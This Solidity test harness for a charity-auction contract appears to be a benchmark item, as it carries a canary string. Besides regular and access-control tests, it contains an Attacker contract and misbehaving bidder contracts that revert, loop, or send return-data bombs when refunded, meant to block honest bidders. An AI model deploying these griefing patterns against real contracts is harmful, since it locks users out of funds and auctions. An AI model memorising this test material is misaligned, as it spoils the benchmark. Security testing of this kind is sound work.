// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./SummerFeteLots.sol";

// assay-canary-8bbd6575-528c-45ea-b2f6-2dd383ab5c98

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A bidder that behaves in one of several ways when it gets its money back.
contract Rowdy {
    uint256 internal immutable manner;
    SummerFeteLots internal immutable fete;

    constructor(SummerFeteLots fete_, uint256 manner_) payable {
        (fete, manner) = (fete_, manner_);
    }

    receive() external payable {
        if (manner == 0) revert("no");
        if (manner == 1) while (true) {}
        if (manner == 2) assembly { revert(0, 100000) }
        if (manner == 3) assembly { return(0, 20000) }
        if (manner == 4) assembly { invalid() }
        if (manner == 5) { // outbids whoever is outbidding it
            uint256 least = fete.leastBid(1);
            if (address(this).balance >= least) fete.bid{value: least}(1);
        }
    }

    function bid(uint256 lot) public {
        uint256 least = fete.leastBid(lot);
        if (address(this).balance >= least) fete.bid{value: least}(lot);
    }

    function fetch() external {
        fete.fetch(payable(address(this)));
    }
}

contract Attacker {
    SummerFeteLots internal fete;

    constructor(SummerFeteLots fete_) payable {
        fete = fete_;
    }

    receive() external payable {
        revert("not now");
    }

    function _try(address to, bytes memory data, uint256 value, uint256 gas_) internal returns (bool ok) {
        (ok, ) = to.call{value: value, gas: gas_}(data);
    }

    function run() external {
        // the committee's, and a bidder's
        _try(address(fete), abi.encodeCall(fete.giveUp, (1)), 0, 100_000);
        _try(address(fete), abi.encodeCall(fete.withdraw, (1)), 0, 100_000);
        _try(address(fete), abi.encodeCall(fete.hammer, (1)), 0, 100_000);
        // the list of lots that are gone, too early and too long
        uint256[] memory list = new uint256[](26);
        _try(address(fete), abi.encodeCall(fete.gone, (list)), 0, 500_000);
        list = new uint256[](1);
        list[0] = 1;
        _try(address(fete), abi.encodeCall(fete.gone, (list)), 0, 100_000);
        // bids that are left standing by one bidder after the other, each with manners of its own
        for (uint256 manner = 1; manner <= 5; ++manner) {
            Rowdy rowdy = new Rowdy{value: 0.2 ether}(fete, manner);
            _try(address(rowdy), abi.encodeCall(rowdy.bid, (1)), 0, 1_000_000);
            _try(address(rowdy), abi.encodeCall(rowdy.fetch, ()), 0, 1_000_000);
        }
        // and the last one is our own
        uint256 least = fete.leastBid(1);
        _try(address(fete), abi.encodeCall(fete.bid, (1)), least - 1, 300_000);
        _try(address(fete), abi.encodeCall(fete.bid, (1)), least, 300_000);
        _try(address(fete), abi.encodeCall(fete.fetch, (payable(address(this)))), 0, 100_000);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    SummerFeteLots private fete;
    Attacker private heckler;
    Rowdy private mum; // with ordinary manners
    address private constant DAD = address(0xDAD);

    receive() external payable {}

    function setUp() public {
        vm.warp(1_767_000_000);
        vm.deal(address(this), 120 ether);
        fete = new SummerFeteLots(address(this));
        fete.put("a day on the tug", 0.05 ether);
        fete.put("forty jars of damson", 0);
        heckler = new Attacker{value: 3 ether}(fete);
        mum = new Rowdy{value: 100 ether}(fete, 99);
        vm.deal(DAD, 10 ether);
    }

    function test_Regular() public {
        require(fete.leastBid(1) == 0.05 ether && fete.leastBid(2) == 1, "least");
        vm.prank(DAD);
        fete.bid{value: 1 ether}(1);
        vm.prank(DAD);
        (bool ok, ) = address(fete).call{value: 1.05 ether}(abi.encodeCall(fete.bid, (1)));
        require(!ok, "too low");
        mum.bid(1);
        require(DAD.balance == 10 ether && fete.lotAt(1).bid == 1.051 ether, "money back");
        (ok, ) = address(fete).call(abi.encodeCall(fete.withdraw, (1)));
        require(!ok, "has a bid");
        fete.hammer(1);
        vm.warp(block.timestamp + 9 minutes);
        vm.prank(DAD);
        fete.bid{value: 2 ether}(1);
        require(fete.lotAt(1).ends == block.timestamp + 5 minutes, "five more");
        require(address(mum).balance == 100 ether, "money back");
        uint256[] memory list = new uint256[](1);
        list[0] = 1;
        (ok, ) = address(fete).call(abi.encodeCall(fete.gone, (list)));
        require(!ok, "not over");
        vm.warp(block.timestamp + 5 minutes);
        vm.prank(DAD);
        (ok, ) = address(fete).call{value: 5 ether}(abi.encodeCall(fete.bid, (1)));
        require(!ok, "over");
        fete.gone(list);
        require(fete.raised() == 2 ether && fete.lotAt(1).bidder == DAD, "gone");
        uint256 before = address(this).balance;
        fete.bank(payable(address(this)));
        require(address(this).balance == before + 2 ether && fete.raised() == 0, "banked");
        vm.prank(DAD);
        fete.bid{value: 0.5 ether}(2);
        vm.prank(DAD);
        (ok, ) = address(fete).call(abi.encodeCall(fete.giveUp, (2)));
        require(!ok, "not idle yet");
        vm.warp(block.timestamp + 60 days);
        vm.prank(DAD);
        fete.giveUp(2);
        vm.prank(DAD);
        fete.fetch(payable(DAD));
        require(DAD.balance == 8 ether && fete.leastBid(2) == 1, "given up");
        fete.withdraw(2);
        (ok, ) = address(fete).call{value: 1 ether}(abi.encodeCall(fete.bid, (2)));
        require(!ok, "withdrawn");
        (ok, ) = address(fete).call(abi.encodeCall(fete.fetch, (payable(address(this)))));
        require(!ok, "nothing there");
    }

    /// The honest call: mum, who has plenty, makes the least bid there can be, and it stands.
    function honestBid() public {
        mum.bid(1);
        require(fete.lotAt(1).bidder == address(mum), "does not stand");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Lots and money are the committee's, a bid the bidder's.
    function test_RefusesStrangers() public {
        refuses(DAD, SummerFeteLots.CommitteeOnly.selector);
        fete.put("a kiss", 0);
        refuses(DAD, SummerFeteLots.CommitteeOnly.selector);
        fete.hammer(1);
        refuses(DAD, SummerFeteLots.CommitteeOnly.selector);
        fete.bank(payable(DAD));
        vm.prank(DAD);
        fete.bid{value: 1 ether}(1);
        vm.warp(block.timestamp + 61 days);
        vm.expectRevert(abi.encodeWithSelector(SummerFeteLots.NotInState.selector, 1, 1));
        fete.giveUp(1);
        fete.hammer(1);
        refuses(DAD, abi.encodeWithSelector(SummerFeteLots.NotInState.selector, 1, 2));
        fete.giveUp(1);
    }

    /// States, sums and lists that do not fit.
    function test_RefusesLots() public {
        fete.hammer(1);
        vm.expectRevert(abi.encodeWithSelector(SummerFeteLots.NotInState.selector, 1, 2));
        fete.hammer(1);
        fete.withdraw(1);
        vm.expectRevert(abi.encodeWithSelector(SummerFeteLots.NotInState.selector, 1, 4));
        fete.withdraw(1);
        vm.deal(address(this), 2**129);
        vm.expectRevert(SummerFeteLots.TooHigh.selector);
        fete.bid{value: 2**128}(2);
        vm.expectRevert(abi.encodeWithSelector(SummerFeteLots.TooManyLots.selector, 26));
        fete.gone(new uint256[](26));
        vm.expectRevert(SummerFeteLots.NotTaken.selector);
        fete.bank(payable(address(fete)));
    }

    function exploit() public {
        heckler.run();
    }

    function test_Exploit() public {
        exploit();
        require(fete.leastBid(1) <= 10 ether && address(mum).balance == 100 ether, "mum can afford it");
        (bool served, ) = address(this).call(abi.encodeCall(this.honestBid, ()));
        require(!served, "mum could still bid");
    }

    function target() public view returns (address) {
        return address(fete);
    }

    function attacker() public view returns (address) {
        return address(heckler);
    }
}
